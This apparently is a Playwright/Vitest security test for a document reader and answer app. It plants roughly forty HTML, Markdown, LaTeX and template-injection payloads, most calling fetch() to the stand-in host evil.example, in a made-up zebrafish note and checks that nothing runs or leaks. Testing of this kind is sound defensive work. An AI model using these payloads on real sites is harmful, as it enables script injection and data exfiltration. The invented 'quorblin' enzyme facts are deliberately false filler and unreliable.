import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { chromiumPath, launchChromium } from '../fakes/chromium.ts';
import { type RunningPage, startPage } from '../fakes/running-page.ts';
import { openWatched, type WatchedPage } from '../fakes/watched-page.ts';

if (chromiumPath === undefined) {
  console.warn('SKIPPED: browser tests need Chromium (Debian: apt-get install chromium).');
}

const away = 'https://evil.example/x';

/** Attempts of a document to fetch something, run something, or lead the reader away. */
const payloads: readonly string[] = [
  `<script>fetch('${away}?script')</script>`,
  `<img src="${away}?img" onerror="fetch('${away}?onerror')">`,
  `<svg onload="fetch('${away}?svg')"><image href="${away}?image"/></svg>`,
  `<iframe src="${away}?iframe"></iframe>`,
  `<iframe srcdoc="<img src='${away}?srcdoc'>"></iframe>`,
  `<link rel="stylesheet" href="${away}?css"><style>@import "${away}?import";</style>`,
  `<object data="${away}?object"></object><embed src="${away}?embed">`,
  `<video src="${away}?video" autoplay></video><audio src="${away}?audio"></audio>`,
  `<form action="${away}?form"><input name="q"><button>Send</button></form>`,
  `<base href="${away}?base"><meta http-equiv="refresh" content="0;url=${away}?refresh">`,
  `<a href="${away}?a" ping="${away}?ping">a link in HTML</a>`,
  `<div style="background:url(${away}?style)">styled</div>`,
  `<math><mtext><img src="${away}?math"></mtext></math>`,
  `![a picture](${away}?picture)`,
  `![a picture][shot]\n\n[shot]: ${away}?reference "title"`,
  `[![nested](${away}?inner)](${away}?outer)`,
  `[press here](${away}?link)`,
  `[press here][away]\n\n[away]: ${away}?away`,
  `<${away}?angle>`,
  `${away}?bare and www.evil.example/www`,
  `mail@evil.example and <mailto:mail@evil.example>`,
  `[run](javascript:fetch('${away}?javascript'))`,
  `[run](JaVaScRiPt&colon;fetch('${away}?entity'))`,
  `[run](data:text/html,<script>fetch('${away}?data')</script>)`,
  `[run](vbscript:msgbox) [file](file:///etc/passwd) [blob](blob:${away})`,
  `[protocol](//evil.example/protocol) [back](\\\\evil.example\\back)`,
  `[title](# "x\\" onmouseover=\\"fetch('${away}?title')")`,
  `A footnote[^1].\n\n[^1]: ![foot](${away}?footnote) [away](${away}?foot)`,
  `| a |\n| --- |\n| ![cell](${away}?cell) [cell](${away}?celllink) |`,
  `- [ ] ![task](${away}?task)`,
  `> ![quote](${away}?quote)`,
  `$\\href{${away}?href}{x}$ and $\\includegraphics{${away}?graphics}$`,
  `$$\\htmlData{onclick=alert(1)}{x} \\htmlStyle{background:url(${away}?htmlstyle)}{y}$$`,
  `$\\url{${away}?url}$ $\\html@mathml{x}{y}$ $\\def\\a{\\a\\a}\\a$`,
  `\`\`\`html\n<img src=x onerror=fetch('${away}?fence')>\n\`\`\``,
  `\`\`\`mermaid\nclick A "${away}?mermaid"\n\`\`\``,
  `<!-- ${away} --> <![CDATA[<img src=${away}?cdata>]]>`,
  `&lt;img src="${away}?decoded"&gt; &#60;script&#62;fetch('${away}?numeric')&#60;/script&#62;`,
  `\u202e${away.split('').reverse().join('')} \u200b[zero\u200bwidth](${away}?zero)`,
  `[1](${away}?cite) [^1]: ${away} 【1】(${away}?bracket)`,
  `{{constructor.constructor('fetch("${away}?template")')()}} \${fetch('${away}')}`,
];

describe.skipIf(chromiumPath === undefined)('a document that attacks its reader', () => {
  const folder = mkdtempSync(join(tmpdir(), 'groundwork-hostile-'));
  let server: RunningPage;
  let browser: Browser;
  let watched: WatchedPage;
  let page: Page;

  beforeAll(async () => {
    mkdirSync(join(folder, 'notes'));
    const sections = payloads.map(
      (payload, at) =>
        `## Zebrafish matter ${at}\n\nThe zebrafish enzyme number ${at} is called quorblin${at} and it needs ${payload.includes('\n') ? 'this' : payload} to work.\n\n${payload}\n`,
    );
    writeFileSync(
      join(folder, 'notes', 'zebrafish.md'),
      `---\ntitle: "Zebrafish <img src=${away}?title onerror=fetch('${away}?titleerror')>"\nsummary: "![s](${away}?summary) <script>fetch('${away}?summaryscript')</script>"\nreferences:\n  - title: "[t](${away}?ref)"\n    id: "${away}?id"\n---\n# Zebrafish ![title](${away}?heading) <b>bold</b>\n\nZebrafish enzymes are proteins.\n\n${sections.join('\n')}`,
    );
    server = await startPage({ corpus: join(folder, 'notes') });
    browser = await launchChromium();
    watched = await openWatched(browser, server.url);
    ({ page } = watched);
    page.on('popup', () => expect.fail('A window was opened.'));
    page.on('dialog', () => expect.fail('A dialog was opened.'));
  });

  afterAll(async () => {
    await browser?.close();
    await server?.stop();
    rmSync(folder, { recursive: true, force: true });
  });

  /** Addresses of elements that are not ours, and attributes that run something. */
  const leaks = () =>
    page.evaluate(`[...document.querySelectorAll('*')].flatMap((element) =>
      [...element.attributes]
        .filter(({ name, value }) =>
          /^on|^srcdoc$|^ping$/i.test(name) ||
          (/^(?:href|src|srcset|action|formaction|data|poster|background|xlink:href)$/i.test(name) &&
            new URL(value, location.href).origin !== location.origin))
        .map(({ name, value }) => element.tagName + ' ' + name + '=' + value))`);
  const settle = async () => {
    await page.waitForTimeout(200);
    expect(await leaks()).toEqual([]);
    const strange = await page.evaluate(
      "document.querySelectorAll('main iframe, main object, main embed, main video, main audio, main img, main script, main style, main base, main meta, main link').length",
    );
    expect(strange).toBe(0);
  };

  it('is looked at by a test that sees what it looks for', async () => {
    await page.goto(server.url);
    await page.evaluate(`document.body.insertAdjacentHTML('beforeend', '<a href="${away}">x</a>')`);
    expect(await leaks()).toEqual([`A href=${away}`]);
  });

  it('has nothing of it fetched, run or linked in the source reader', async () => {
    const [document] = await server.pipeline.documents();
    await page.goto(`${server.url}/read/${document!.id}`);
    await page.getByRole('heading', { level: 1 }).waitFor();
    const step = 600;
    for (let scrolled = 0; scrolled < 20_000; scrolled += step) {
      await page.mouse.move(800, 500);
      await page.mouse.wheel(0, step);
      await page.waitForTimeout(20);
    }
    await page.getByText('quorblin40').first().waitFor();
    await settle();
    await page.getByRole('button', { name: 'As in the file' }).click();
    await page.locator('pre[data-file]').waitFor();
    await settle();
  });

  it('has nothing of it in answers, their cards, their sources and their traces', async () => {
    let answered = 0;
    for (const at of [0, 1, 13, 16, 19, 21, 31, 38]) {
      const question = `What is the zebrafish enzyme number ${at} called quorblin${at}?`;
      await page.goto(`${server.url}/?q=${encodeURIComponent(question)}`);
      await page.locator('a[data-why]').waitFor();
      answered += await page.locator('[data-cite="1"]').count();
      await settle();
      if ((await page.locator('[data-cite="1"]').count()) > 0) {
        await page.locator('[data-cite="1"]').hover();
        await page.locator('[data-radix-popper-content-wrapper]').waitFor();
        await settle();
        await page.locator('[data-cite="1"]').click();
        await page.locator('[data-name~="active"]').first().waitFor();
        await settle();
      }
      await page.locator('a[data-why]').click();
      await page.getByRole('heading', { name: 'Rewrite the question' }).waitFor();
      await page.evaluate(
        "for (const one of document.querySelectorAll('details')) one.open = true",
      );
      await settle();
    }
    expect(answered).toBeGreaterThan(4);
  });

  it('has nothing of it in the library and its chunks', async () => {
    await page.goto(`${server.url}/library?q=zebrafish`);
    await page.getByText('quorblin').first().waitFor();
    await settle();
    await page.goto(`${server.url}/library`);
    await page
      .getByRole('button', { name: /chunks/i })
      .first()
      .click();
    await page.getByText('quorblin').first().waitFor();
    await settle();
  });

  it('asked nothing of another host all the while', () => {
    expect(watched.foreign).toEqual([]);
    expect(watched.problems).toEqual([]);
  });
});
